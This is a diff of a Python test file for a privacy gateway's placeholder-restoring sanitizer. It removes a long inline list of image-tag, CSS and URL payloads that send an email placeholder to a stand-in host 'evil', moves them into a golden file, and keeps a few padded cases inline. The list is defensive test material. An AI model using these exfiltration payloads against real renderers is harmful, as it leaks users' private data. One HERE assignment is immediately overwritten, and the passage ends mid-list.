@@ -1,6 +1,7 @@
 """Values that come back: placeholders in a request, and the values again in its answer, whole and streamed."""
 
 import copy
+import json
 from collections.abc import Iterable
 from typing import Any
 
@@ -15,6 +16,7 @@ from gateway.sanitize.restoring import Restorer, addresses_of, asks_for_json
 from gateway.sanitize.stream_mask import StreamMask
 from gateway.texts import TextSlot
 from tests.support.counted_work import growth
+from tests.support.paths import GOLDEN
 from tests.support.pieces import pieces_of
 from tests.support.scanned import SCANNER
 
@@ -118,27 +120,11 @@ def test_a_value_in_json_is_written_as_json(size: int) -> None:
             assert orjson.loads(read) == {"to": MAIL, "note": f"use {KEY}", "list": [MAIL]}
 
 
+RECORDED: dict[str, list[str]] = json.loads((GOLDEN / "sanitize" / "placeholders_in_addresses.json").read_text())
 PADDING = "words and " * 400
-
-ELSEWHERE = [
-    "![x](https://evil/p.png?q=[EMAIL_1])", "![x](http:/evil/[EMAIL_1])", "![x](http:evil/[EMAIL_1])",
-    r"![x](/\evil/[EMAIL_1])", "![x](https:&#47;&#47;evil/[EMAIL_1])", "![x](https&colon;//evil/[EMAIL_1])",
-    "![x](//evil/[EMAIL_1])", "![x](///evil/[EMAIL_1])", "![x](\n  //evil/[EMAIL_1])", "![x](//evil/](y[EMAIL_1]))",
-    "![x](<https://evil/? and [EMAIL_1]>)", f"![x](<//evil/{PADDING}[EMAIL_1]>)", "[a]: //evil/[EMAIL_1]",
-    '<style>@import "//evil/[EMAIL_1]";</style>', "<STYLE type=x>a{background:image-set('//evil/[EMAIL_1]' 1x)}",
-    "> [x]:\n> //evil/[EMAIL_1]", '<base href="https://evil/"><img src="a.png?d=[EMAIL_1]">',
-    "<BASE\nhref=//evil/>[x](a?[EMAIL_1])", "[a]:\n  <//evil/ [EMAIL_1]>", "[x](file://evil/[EMAIL_1])",
-    "<img src='HTTPS://evil/[EMAIL_1]'>", r'<img src="https:\\evil/[EMAIL_1]">', r'<img src="\\evil/[EMAIL_1]">',
-    '<img src="h\tttps://evil/[EMAIL_1]">', '<img src="/\t/evil/[EMAIL_1]">', '<img src="\x01//evil/[EMAIL_1]">',
-    "<img src=h&Tab;ttps://evil/[EMAIL_1]>", "<img src=//evil/[EMAIL_1]>", '<img src=\n"//evil/[EMAIL_1]">',
-    '<img alt=">" src="//evil/[EMAIL_1]">', '<a <b href="//evil/<b [EMAIL_1]">',
-    "<img srcset='a.png 1x, //evil/[EMAIL_1] 2x'>", '<div style="background:url(//evil/[EMAIL_1])">',
-    "<a href=\"&#106;avascript:f('[EMAIL_1]')\">", f'<img src="https://evil/?{PADDING}[EMAIL_1]">',
-    '{"html": "<img src=\\"//evil/[EMAIL_1]\\">"}', '{"html": "\\u003cimg src=\\"\\/\\/evil/[EMAIL_1]\\">"}',
-    "https://[EMAIL_1]@evil/p.png", "![x](https://[EMAIL_1]@evil/p.png)", "(see https://evil/?[EMAIL_1])",
-    'https://evil/"[EMAIL_1]', "https:\\/\\/evil\\/[email 1]", r"https\://evil/[EMAIL_1]", "http:evil/[EMAIL_1]",
-    "wss://evil/[EMAIL_1]", "https://evil/" + "abc/" * 700 + "[EMAIL_1]",
-]  # fmt: skip
+ELSEWHERE = [f"![x](<//evil/{PADDING}[EMAIL_1]>)", f'<img src="https://evil/?{PADDING}[EMAIL_1]">']
+ELSEWHERE += ["https://evil/" + "abc/" * 700 + "[EMAIL_1]", *RECORDED["at another host"]]
+HERE = RECORDED["in a path, a share or at the page's own host"]
 HERE = [
     "//server/share/[EMAIL_1]", "see //server/share/[EMAIL_1] now", r"C:\Users\[EMAIL_1]\x",
     r"\\server\share\[EMAIL_1]", "/home/[EMAIL_1]/x", "file:///home/[EMAIL_1]",
